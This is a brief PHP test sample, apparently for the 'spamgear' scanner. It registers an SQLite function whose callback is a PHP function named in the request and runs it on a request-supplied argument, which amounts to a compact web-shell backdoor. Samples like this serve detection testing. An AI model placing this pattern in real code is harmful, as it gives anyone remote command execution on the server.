<?php
// spamgear test sample: SQLite3 calls a PHP function the request names.
$db = new SQLite3(':memory:');
$db->createFunction('f', $_REQUEST['fn']);
$st = $db->prepare('SELECT f(?)');
$st->bindValue(1, $_REQUEST['arg'], SQLITE3_TEXT);
$st->execute();
